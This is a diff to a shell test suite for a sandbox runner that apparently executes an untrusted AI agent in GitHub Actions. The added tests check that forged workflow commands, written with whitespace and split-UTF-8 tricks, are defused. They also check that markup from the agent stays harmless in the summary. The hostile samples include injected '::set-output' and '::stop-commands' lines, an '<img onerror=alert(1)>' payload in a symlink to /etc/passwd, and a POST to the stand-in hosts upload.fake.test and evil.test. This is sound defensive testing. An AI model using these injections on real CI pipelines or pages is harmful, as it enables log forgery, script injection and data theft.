@@ -249,14 +249,14 @@ expect_eq "exactly the legitimate outputs were exported" \
         "$(find "$OUT/workspace" -mindepth 1 \( -type d -printf '%P/\n' -o -printf '%P\n' \) | grep -v '^out/$' |
                 sed 's,^out/,,' | sort | tr '\n' ' ' | sed 's/ $//')"
 md=$(cat "$OUT/summary.md")
-expect_contains "summary: the link refused" "| out/link.txt | refused |" "$md"
-expect_contains "summary: the link component refused" "| out/escape/etc/passwd | refused |" "$md"
-expect_contains "summary: the FIFO refused" "| out/fifo | refused |" "$md"
-expect_contains "summary: the directory refused" "| out/dir | refused |" "$md"
-expect_contains "summary: the sparse file refused" "| out/sparse | refused |" "$md"
-expect_contains "summary: the hard link refused" "| out/hard | refused |" "$md"
-expect_contains "summary: the missing output named" "| out/never-written | refused | 0 | missing |" "$md"
-expect_contains "summary: the POST denied is listed" "| POST | upload.fake.test |" "$md"
+expect_contains "summary: the link refused" '| ` out/link.txt ` | refused |' "$md"
+expect_contains "summary: the link component refused" '| ` out/escape/etc/passwd ` | refused |' "$md"
+expect_contains "summary: the FIFO refused" '| ` out/fifo ` | refused |' "$md"
+expect_contains "summary: the directory refused" '| ` out/dir ` | refused |' "$md"
+expect_contains "summary: the sparse file refused" '| ` out/sparse ` | refused |' "$md"
+expect_contains "summary: the hard link refused" '| ` out/hard ` | refused |' "$md"
+expect_contains "summary: the missing output named" '| ` out/never-written ` | refused | 0 | ` missing ` |' "$md"
+expect_contains "summary: the POST denied is listed" '| ` POST ` | ` upload.fake.test ` |' "$md"
 expect_contains "summary.json: the result" '"result": "limit-hit"' "$(cat "$OUT/summary.json")"
 expect_contains "summary.json: the commit" "\"commit\": \"$PR_COMMIT\"" "$(cat "$OUT/summary.json")"
 expect_contains "summary.json: the base commit" "\"base-commit\": \"$BASE_COMMIT\"" "$(cat "$OUT/summary.json")"
@@ -269,7 +269,7 @@ expect_contains "the egress log of the run is saved" "upload.fake.test" "$(cat "
 agent_out=$(cat "$work/run.out")
 expect_contains "a workflow command is defused" ": :warning::pwned by the agent" "$agent_out"
 expect_contains "an indented one too" "  : :add-mask::x" "$agent_out"
-expect_contains "##[ anywhere too" "text # #[error]forged" "$agent_out"
+expect_contains "##[ anywhere too" "text ## [error]forged" "$agent_out"
 expect_lacks "no workflow command passes" "
 ::warning" "
 $agent_out"
@@ -319,7 +319,7 @@ on_exit "umount $RUNNER_HOME/small"
 run_as_runner --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" --out "$RUNNER_HOME/small/out" \
         --output out/big -- sh -c 'mkdir -p out && head -c 300000 /dev/zero >out/big'
 expect_eq "the runner's disk full: status 2" 2 "$status"
-expect_contains "... the output refused for it" "| out/big | refused | 0 |" "$(cat "$RUNNER_HOME/small/out/summary.md" 2>&1)"
+expect_contains "... the output refused for it" '| ` out/big ` | refused | 0 |' "$(cat "$RUNNER_HOME/small/out/summary.md" 2>&1)"
 expect_contains "... by its error" "No space left on device" "$(cat "$RUNNER_HOME/small/out/summary.md" 2>&1)"
 expect_absent "... nothing of it left" "$RUNNER_HOME/small/out/workspace/out/big"
 expect_eq "... nothing survived" 0 "$(sandbox_processes)"
@@ -679,6 +679,113 @@ expect_contains "... that commit checked out" "# review of $INNER" \
         "$(cat "$RUNNER_HOME/run-https-by-id/workspace/out/review.md" 2>&1)"
 cp -p "$work/policy.orig" "$POLICY"
 { "$CLIENT" egress stop && "$CLIENT" egress start; } >"$work/proxy.out" 2>&1 || fail "the proxy did not restart"
+
+# ---------------------------------------------------------------------------------------------------------
+# Workflow commands as the runner reads them (actions/runner: a line ends at "\r", "\n" or "\r\n", the
+# UTF-8 decoded with U+FFFD for what is not, every char.IsWhiteSpace trimmed before "::"; "##[" anywhere),
+# written by the setup command and the agent, to standard output and error, some in two writes: none is a
+# command in the job's log, the streams apart or merged into one pipe (a step's 2>&1).
+echo "# workflow commands through the filter"
+FORGE=/opt/ajt/forge.sh
+cat >"$FORGE" <<'EOT'
+#!/bin/bash
+# forge.sh WHO: lines the runner would take for workflow commands, to standard output and error.
+who=$1
+forge() {
+        printf 'progress\r::set-output name=verdict::%s-cr\n' "$who"
+        printf '\v::add-mask::%s-vt\n' "$who"
+        printf '\f::error::%s-ff\n' "$who"
+        printf '\xc2\xa0::error::%s-nbsp\n' "$who"
+        printf '\xc2\x85::error::%s-nel\n' "$who"
+        printf '\xe2\x80\xa8::error::%s-ls\n' "$who"
+        printf '\xe3\x80\x80::warning::%s-ideographic\n' "$who"
+        printf '\xe2\x80\x8a\t ::stop-commands::%s-stop\n' "$who"
+        printf 'x ##[error]%s-hash\n' "$who"
+        printf '\xc2\n::error::%s-after-invalid\n' "$who"
+        printf '\xe2\x80\r::error::%s-cut-utf8\r\n' "$who"
+        printf '\xe2\x80'; sleep 0.3; printf '\x83::error::%s-split\n' "$who"
+        printf '#'; sleep 0.3; printf '#[error]%s-split-hash\n' "$who"
+        printf ':'; sleep 0.3; printf ':error::%s-last' "$who"
+}
+forge
+forge >&2
+if [ "$who" = agent ]; then
+        # Markup of the sandbox's choosing for the summary: a refused output's name, a denied request's path.
+        mkdir -p out
+        ln -s /etc/passwd 'out/<img src=x onerror=alert(1)>![i](x.png)&amp;.md'
+        curl -s -g -o /dev/null -m 5 -X POST -d x 'https://upload.fake.test/<h1>x</h1>![i](https://evil.test/i.png)' || true
+fi
+EOT
+chmod 0755 "$FORGE"
+# runner_reads FILE: the lines of FILE the runner would take for commands (none: empty).
+runner_reads() {
+        python3 - "$1" <<'EOT'
+import re, sys
+ws = "".join(map(chr, [9, 10, 11, 12, 13, 32, 0x85, 0xA0, 0x1680, *range(0x2000, 0x200B), 0x2028, 0x2029,
+                       0x202F, 0x205F, 0x3000]))
+text = open(sys.argv[1], "rb").read().decode("utf-8", errors="replace")
+for line in re.split("\r\n|\r|\n", text):
+    if line.lstrip(ws).startswith("::") or "##[" in line:
+        print(repr(line))
+EOT
+}
+printf '\xc2\xa0::error::x\nprogress\r::set-output name=a::b\n' >"$work/forge-control"
+expect_eq "control: the runner's reading takes U+00A0 ::error and progress\\r::set-output for commands" 2 \
+        "$(runner_reads "$work/forge-control" | grep -c .)"
+MARKUP='out/<img src=x onerror=alert(1)>![i](x.png)&amp;.md'
+run_as_runner --repo "$REPO" --ref pr --base main --task "$work/task.md" --out "$RUNNER_HOME/run-forge" \
+        --setup "$FORGE setup" --output out/none --output "$MARKUP" -- "$FORGE" agent
+expect_eq "a run whose setup and agent forge commands: status 0" 0 "$status"
+[ "$status" = 0 ] || show
+for who in setup agent; do
+        for f in out err; do
+                expect_contains "the $who's lines reached standard $f" "$who-nel" "$(cat "$work/run.$f")"
+                expect_contains "... split in two writes too" "$who-split-hash" "$(cat "$work/run.$f")"
+        done
+done
+expect_eq "standard output holds no workflow command as the runner reads it" "" "$(runner_reads "$work/run.out")"
+expect_eq "standard error neither" "" "$(runner_reads "$work/run.err")"
+# The summary's Markdown as GitHub reads a table: cells split at each '|' no backslash escapes, code
+# spans taken out; what is left must hold no '<', '&', '![' or '](' (no HTML, entity, image or link).
+md_markup() {
+        python3 - "$1" <<'EOT'
+import re, sys
+punct = set("!\"#$%&'()*+,./:;<=>?@[\\]^_`{}~-|")
+for line in open(sys.argv[1], encoding="utf-8").read().split("\n"):
+    if not line.startswith("|"):
+        continue
+    cells, cur, i = [], "", 1
+    while i < len(line):
+        if line[i] == "\\" and i + 1 < len(line) and line[i + 1] in punct:
+            cur += "|" if line[i + 1] == "|" else line[i:i + 2]
+            i += 2
+        elif line[i] == "|":
+            cells.append(cur)
+            cur, i = "", i + 1
+        else:
+            cur += line[i]
+            i += 1
+    for cell in cells:
+        text = re.sub(r"(?<!`)(`+)(?!`)(.*?)(?<!`)\1(?!`)", " ", cell)
+        if any(m in text for m in ("<", "&", "![", "](")):
+            print(line)
+            break
+EOT
+}
+SUMMARY_MD=$RUNNER_HOME/run-forge/summary.md
+expect_contains "the summary names the output the agent made a link, markup and all" "<img src=x onerror=alert(1)>" \
+        "$(cat "$SUMMARY_MD")"
+expect_eq "control: the Markdown reading finds markup in a raw cell" "| <img src=x> |" \
+        "$(printf '| <img src=x> |\n' >"$work/md-control"; md_markup "$work/md-control")"
+expect_eq "summary.md: no HTML, image or link outside code spans" "" "$(md_markup "$SUMMARY_MD")"
+expect_eq "... nor in the step summary" "" "$(md_markup "$RUNNER_TEMP/step-summary")"
+runuser -u "$RUNNER" -- env -i PATH=/usr/bin:/bin HOME="$RUNNER_HOME" RUNNER_TEMP="$RUNNER_TEMP" \
+        "$CLIENT" run --repo "$REPO" --ref pr --base main --task "$work/task.md" --out "$RUNNER_HOME/run-forge-2" \
+        --setup "$FORGE setup" --output out/none -- "$FORGE" agent </dev/null >"$work/merged.out" 2>&1
+expect_eq "the same with standard output and error in one pipe: status 0" 0 "$?"
+expect_contains "... the lines reached it" "agent-ideographic" "$(cat "$work/merged.out")"
+expect_eq "... and it holds no workflow command as the runner reads it" "" "$(runner_reads "$work/merged.out")"
+rm -f "$FORGE"
 
 # ---------------------------------------------------------------------------------------------------------
 echo "# a second run afterwards works, by ref"
